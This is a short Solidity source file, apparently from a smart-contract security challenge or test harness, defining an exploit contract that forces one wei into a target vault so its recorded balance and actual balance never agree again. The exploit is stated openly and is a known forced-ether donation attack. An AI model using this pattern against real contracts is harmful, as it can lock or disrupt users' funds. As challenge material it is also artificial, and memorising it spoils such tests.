// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ForcedEther} from "../../shared/ForcedEther.sol";
import {Exploit, Scene} from "../Exploit.sol";

/// @title A wei that nobody asked for
/// @notice Forces a wei upon the vault, whose books then never agree again.
contract DonationLock is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) ForcedEther.send(address(vault), 1);
    }
}
